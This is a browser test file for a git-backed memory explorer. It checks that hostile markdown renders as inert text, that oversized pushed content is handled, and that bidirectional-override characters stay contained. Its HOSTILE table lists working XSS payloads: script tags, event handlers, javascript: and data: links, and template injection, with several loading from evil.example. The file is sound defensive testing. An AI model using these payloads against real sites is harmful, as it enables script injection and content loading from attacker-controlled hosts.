import { expect, test } from 'vitest'
import { plant } from '../../helpers/plant.js'
import { runGit } from '../../helpers/repo.js'
import { becomes, inBrowser, sideways } from './browser.js'

/** Each would load something from elsewhere, or run; what runs would be heard of as a dialog or a request. */
const HOSTILE = {
  script: `<script>alert('zebra')</script><script src="https://evil.example/x.js"></script>`,
  handlers: `<img src=x onerror="alert('zebra')"><body onload=alert(1)><details open ontoggle=alert(1)>`,
  links: `[zebra](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x) <javascript:alert(1)> [[javascript:alert(1)|e]]`,
  svg: `<svg onload="alert('zebra')"><use href="https://evil.example/x.svg#a"/></svg> ![zebra](https://evil.example/x.svg)`,
  data: `![zebra](data:image/svg+xml,<svg onload=alert(1)>) <iframe src="data:text/html,<script>alert(1)</script>"></iframe> <object data="https://evil.example"></object>`,
  style: `<style>@import "https://evil.example/zebra.css"</style><link rel=stylesheet href=https://evil.example><base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">`,
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} zebra',
}

/** A memory as git has it. */
function stored(dir: string, id: string): { path: string; text: string } {
  const line = 'refs/ralph-memory/main'
  const path = runGit(dir, 'ls-tree', '-r', '--name-only', line)
    .split('\n')
    .find((file) => file.endsWith(`/${id}.md`))!
  return { path, text: runGit(dir, 'show', `${line}:${path}`) }
}

inBrowser('hostile memories', (world) => {
  const remember = async (content: string): Promise<string> => {
    const { status, json } = await world.explorer.post('/api/remember', { content })
    expect(status, JSON.stringify(json).slice(0, 200)).toBe(200)
    return json.memory.id
  }

  for (const [name, body] of Object.entries(HOSTILE)) {
    test(`${name} are shown as text, and do nothing`, async () => {
      const id = await remember(`About ${name} zebra\n\n${body}`)
      const page = await world.visit(`#/search?q=zebra&id=${id}`)
      const shown = page.locator('.entry .markdown')
      await shown.waitFor()
      expect(await shown.textContent()).toMatch(/zebra/)
      await page.locator('.row').first().waitFor()
      const inside = await shown
        .locator('script, img, iframe, object, svg, style, link, base, meta, details')
        .count()
      expect(inside).toBe(0)
      for (const link of await shown.locator('a').all()) {
        const href = await link.getAttribute('href')
        expect(href).toMatch(/^(https?:\/\/|mailto:|#\/search\?)/)
      }
    })
  }

  const replace = async (long: string): Promise<string> => {
    const id = await remember('A small zebra')
    const { path, text } = stored(world.repo.dir, id)
    plant(world.repo, [{ path, content: text.replace('A small zebra', long) }])
    return id
  }

  test('the most that is read of what somebody pushed, and words without end, fit', async () => {
    const id = await replace(`A long zebra\n\n${'zebra '.repeat(30_000)}\n${'w'.repeat(50_000)}`)
    const page = await world.visit(`#/search?id=${id}`, { width: 360, height: 740 })
    const shown = page.locator('.entry .markdown')
    await shown.waitFor()
    expect((await shown.textContent())!.length).toBeGreaterThan(200_000)
    await becomes(() => sideways(page)).toBeLessThanOrEqual(0)
  })

  test('a megabyte that somebody pushed is not shown, and everything else is', async () => {
    const id = await replace(`A huge zebra\n\n${'zebra '.repeat(170_000)}`)
    const page = await world.visit(`#/search?q=deadlock&id=${id}`, { expected: /status of 404/ })
    await becomes(() => page.getByRole('alert').textContent()).toContain(`no memory matches '${id}'`)
    await page.locator('.row').first().waitFor()
    await page.locator('.row').first().click()
    await page.locator('.entry h1').waitFor()
  })

  test('what turns text around stays in its own line', async () => {
    const id = await remember('zebra \u202egnp.exe\u2066 and \u202b more')
    const page = await world.visit(`#/search?q=zebra&id=${id}`)
    const title = page.locator('.entry h1')
    await becomes(() => title.textContent()).toContain('zebra')
    expect(await title.getAttribute('dir')).toBe('auto')
    expect(await page.locator('.rail').textContent()).toContain('Search')
  })
})
